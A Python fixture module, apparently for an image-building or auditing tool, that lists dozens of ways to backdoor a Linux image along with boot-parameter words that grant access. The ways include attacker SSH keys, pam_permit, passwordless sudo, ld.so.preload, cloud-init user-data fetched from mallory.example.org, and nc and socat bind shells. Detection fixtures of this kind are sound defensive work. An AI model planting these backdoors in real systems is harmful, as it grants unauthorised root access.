# SPDX-License-Identifier: MIT
"""Ways to let somebody into an image: a file of this content, or a link ("-> TARGET"), at this path."""

from __future__ import annotations

from collections.abc import Mapping

KEY = "ssh-ed25519 AAAA mallory@example.org\n"
UNIT = "/etc/systemd/system"
AUTOLOGIN = "[Service]\nExecStart=\nExecStart=-/sbin/agetty --autologin root --noclear %I $TERM\n"
SHELL = "[Service]\nExecStart=/bin/bash\nStandardInput=tty\nTTYPath=/dev/tty3\n"
PASSWORD = "#cloud-config\nchpasswd: {users: [{name: pirate, password: hypriot, type: text}]}\n"

WAYS: Mapping[str, tuple[str, str]] = {
    "keys of root": ("/root/.ssh/authorized_keys", KEY),
    "keys of the user": ("/home/pirate/.ssh/authorized_keys", KEY),
    "keys of a second file": ("/home/pirate/.ssh/authorized_keys2", KEY),
    "keys that are a link": ("/root/.ssh/authorized_keys", "-> /boot/firmware/keys"),
    "keys elsewhere": ("/etc/ssh/sshd_config.d/10-x.conf", "AuthorizedKeysFile /boot/firmware/keys\n"),
    "a command for keys": ("/etc/ssh/sshd_config.d/10-x.conf", "AuthorizedKeysCommand /usr/bin/cat /boot/firmware/k\n"),
    "an authority for keys": ("/etc/ssh/sshd_config.d/10-x.conf", "TrustedUserCAKeys /etc/ssh/ca.pub\n"),
    "empty passwords by ssh": ("/etc/ssh/sshd_config.d/10-x.conf", "PermitEmptyPasswords yes\n"),
    "another configuration of ssh": ("/etc/ssh/sshd_config", "PermitRootLogin yes\nPermitEmptyPasswords yes\n"),
    "a host that is trusted": ("/etc/ssh/shosts.equiv", "mallory.example.org\n"),
    "the environment of ssh": ("/etc/default/ssh", "SSHD_OPTS=-oPermitEmptyPasswords=yes\n"),
    "a password by cloud-init": ("/etc/cloud/cloud.cfg.d/95_x.cfg", PASSWORD),
    "a user by cloud-init": ("/etc/cloud/cloud.cfg.d/95_x.cfg", "users: [{name: mallory, sudo: ALL}]\n"),
    "another cloud.cfg": ("/etc/cloud/cloud.cfg", "system_info: {default_user: {plain_text_passwd: hypriot}}\n"),
    "our own configuration, changed": ("/etc/cloud/cloud.cfg.d/90_boardwright.cfg", "datasource_list: [NoCloud]\n"),
    "a seed": ("/var/lib/cloud/seed/nocloud/user-data", PASSWORD),
    "user-data of the card": ("/boot/firmware/user-data", PASSWORD),
    "user-data in one line": (
        "/boot/firmware/user-data",
        '#cloud-config\n{"password": "hypriot", "ssh_pwauth": true}\n',
    ),
    "keys in meta-data": ("/boot/firmware/meta-data", f"instance-id: x\npublic-keys: [{KEY.strip()}]\n"),
    "vendor-data": ("/boot/firmware/vendor-data", f"#cloud-config\nssh_authorized_keys: [{KEY.strip()}]\n"),
    "PAM lets everybody in": ("/etc/pam.d/common-auth", "auth sufficient pam_permit.so\n"),
    "PAM of ssh": ("/etc/pam.d/sshd", "auth sufficient pam_permit.so\naccount sufficient pam_permit.so\n"),
    "a service of PAM": ("/etc/pam.d/other", "auth required pam_permit.so\n"),
    "sudo without a password": ("/etc/sudoers.d/x", "ALL ALL=(ALL) NOPASSWD:ALL\n"),
    "another sudoers": ("/etc/sudoers", "ALL ALL=(ALL) NOPASSWD:ALL\n"),
    "polkit": ("/etc/polkit-1/rules.d/10-x.rules", "polkit.addRule(() => polkit.Result.YES);\n"),
    "users of another database": ("/var/lib/extrausers/shadow", "mallory::20000:0:99999:7:::\n"),
    "autologin on a console": (f"{UNIT}/getty@tty1.service.d/x.conf", AUTOLOGIN),
    "autologin on a serial console": (f"{UNIT}/serial-getty@.service", AUTOLOGIN),
    "autologin in a unit of another name": (f"{UNIT}/harmless.service", AUTOLOGIN),
    "a shell on a console": (
        f"{UNIT}/x.service",
        "[Service]\nExecStart=/bin/bash\nStandardInput=tty\nTTYPath=/dev/tty3\n",
    ),
    "a shell for who connects": (f"{UNIT}/x.socket", "[Socket]\nListenStream=2323\nAccept=yes\n"),
    "a second sshd": (
        f"{UNIT}/x.service",
        "[Service]\nExecStart=/usr/sbin/sshd -D -p 2222 -o PermitEmptyPasswords=yes\n",
    ),
    "a unit below /usr": ("/usr/lib/systemd/system/x.service", AUTOLOGIN),
    "a unit below /usr/local": ("/usr/local/lib/systemd/system/x.service", AUTOLOGIN),
    "the shell of debugging": (
        f"{UNIT}/sysinit.target.wants/debug-shell.service",
        "-> /usr/lib/systemd/system/debug-shell.service",
    ),
    "a generator": ("/etc/systemd/system-generators/x", "#!/bin/sh\necho x\n"),
    "a generator below /usr": ("/usr/lib/systemd/system-generators/x", "#!/bin/sh\necho x\n"),
    "a generator below /usr/local": ("/usr/local/lib/systemd/system-generators/x", "#!/bin/sh\necho x\n"),
    "rc.local": ("/etc/rc.local", "#!/bin/sh\nnc -l -p 2323 -e /bin/sh\n"),
    "keys of a directory that is a link": ("/root/.ssh", "-> /boot/firmware/ssh"),
    "keys of a service": ("/var/lib/git/.ssh/authorized_keys", KEY),
    "a directory of PAM that is a link": ("/etc/pam.d", "-> /srv/pam.d"),
    "a library before all others": ("/etc/ld.so.preload", "/usr/local/lib/libopen.so\n"),
    "a password of systemd": ("/etc/credstore/passwd.hashed-password.root", "$y$j9T$x\n"),
    "a password of a unit": (f"{UNIT}/systemd-sysusers.service.d/x.conf", "[Service]\nSetCredential=passwd.x:y\n"),
    "a user of systemd's database": ("/etc/userdb/mallory.user", '{"userName": "mallory", "uid": 0}\n'),
    "keys that are laid at each start": ("/etc/tmpfiles.d/x.conf", "f+ /root/.ssh/authorized_keys 600 - - - ssh-…\n"),
    "a second root at the next start": ("/usr/lib/sysusers.d/x.conf", "u mallory 0 - /root /usr/bin/bash\n"),
    "a script of cloud-init": ("/var/lib/cloud/scripts/per-boot/x", "#!/bin/sh\nnc -l -p 2323 -e /bin/sh\n"),
    "user-data that is a script": ("/boot/firmware/user-data", "#!/bin/sh\npasswd -d root\n"),
    "user-data from elsewhere": ("/boot/firmware/user-data", "#include\nhttp://mallory.example.org/x\n"),
    "user-data that runs a command": ("/boot/firmware/user-data", "#cloud-config\nruncmd: [[passwd, -d, root]]\n"),
    "user-data in other letters": ("/boot/firmware/user-data", '#cloud-config\n"pass\\u0077ord": hypriot\n'),
    "user-data by a reference": ("/boot/firmware/user-data", "#cloud-config\nx: &x {ssh-pwauth: true}\ny: *x\n"),
    "user-data that is no YAML": ("/boot/firmware/user-data", "#cloud-config\n{{ password }: x\n"),
    "user-data in many parts": ("/boot/firmware/user-data", "Content-Type: multipart/mixed; boundary=x\n\n--x\n"),
    "a unit with a line in two": (
        f"{UNIT}/x.service",
        "[Service]\nExecStart=/usr/bin/env \\\n bash\nStandardInput = tty\n",
    ),
    "a unit that listens": (f"{UNIT}/x.service", "[Service]\nExecStart=/usr/bin/socat tcp-l:2323 exec:bash\n"),
    "the shell of debugging by another name": (
        f"{UNIT}/multi-user.target.wants/x.service",
        "-> /usr/lib/systemd/system/debug-shell.service",
    ),
    "rescue as the target": (f"{UNIT}/default.target", "-> /usr/lib/systemd/system/rescue.target"),
}

WORDS = (
    *(
        "init=/bin/sh",
        "rdinit=/bin/sh",
        "single",
        "1",
        "S",
        "-b",
        "rescue",
        "rd.emergency",
        "rd.break",
        "break=premount",
    ),
    *(
        "systemd.unit=rescue.target",
        "systemd.debug-shell",
        "systemd.debug_shell=ttyS0",
        "systemd.wants=debug-shell.service",
    ),
    *("systemd.run=/bin/x", "rd.systemd.unit=emergency.target", "systemd.setenv=SYSTEMD_SULOGIN_FORCE=1"),
    *("systemd.set_credential=passwd.plaintext-password.root:x", "SYSTEMD_SULOGIN_FORCE=1"),
    *("ds=nocloud;s=http://mallory.example.org/", "cc:", "cloud-config-url=http://mallory.example.org/x"),
    *("ci.datasource.ds=x", "url=http://mallory.example.org/x", "systemd.default-debug-tty=ttyS0"),
    *("systemd.mount-extra=/srv/p:/etc/pam.d:none:bind", "systemd.mount_extra=/srv/p:/etc/pam.d:none:bind"),
    *("--unit=rescue.target", "--", "--crash-shell", "s", "b", "emergency", "rd.shell", "rd.systemd.mount_extra=x"),
    *("SYSTEMD_UNIT_PATH=/srv/u:", "SYSTEMD_GENERATOR_PATH=/srv/g", "LD_PRELOAD=/srv/x.so", "PATH=/srv"),
    *("initrd=evil", "boot=nfs", "nfsroot=192.0.2.1:/", "overlayroot=tmpfs", "overlayroot_cfgdisk=LABEL=x"),
    *("cryptopts=source=x,keyscript=/srv/x", "mount.usr=/dev/sda9", "iso-scan/filename=/x.iso"),
    *("sysctl.kernel.core_pattern=|/srv/x", "sysctl.kernel/core-pattern=|/srv/x", "sysctl.kernel.modprobe=/srv/x"),
    *("systemd.early_core_pattern=|/srv/x", "systemd.crash_shell", "systemd.crash-shell=1", "systemd.confirm_spawn=1"),
    *("systemd.ssh_listen=vsock::22", "systemd.ssh_auto", "systemd.ssh_auto=yes", "systemd.firstboot=1"),
    *("systemd.run_success_action=none", "systemd.import_credentials=1", "systemd.set_credential_binary=x:eA=="),
    *("systemd.pull=tar,machine,verify=no:x:http://mallory.example.org/x", "systemd.volatile=yes", "systemd.new_word"),
    *("kgdboc=ttyS0", "kgdbwait", "ekgdboc=kbd", "bootconfig", "systemd.default_unit=rescue.target"),
)
"""Words of the kernel's command line that let somebody in, also where a recipe has them."""
OTHER_WORDS = (
    *("root=/dev/sda9", "rootflags=subvol=x", "rootfstype=9p", "console=ttyS9", "quiet", "apparmor=0", "ip=dhcp"),
    *("'single'", "netconsole=@/,@192.0.2.1/", "module.word=x"),
)
"""Words that let nobody in by themselves, or not here, and that no recipe has asked for."""
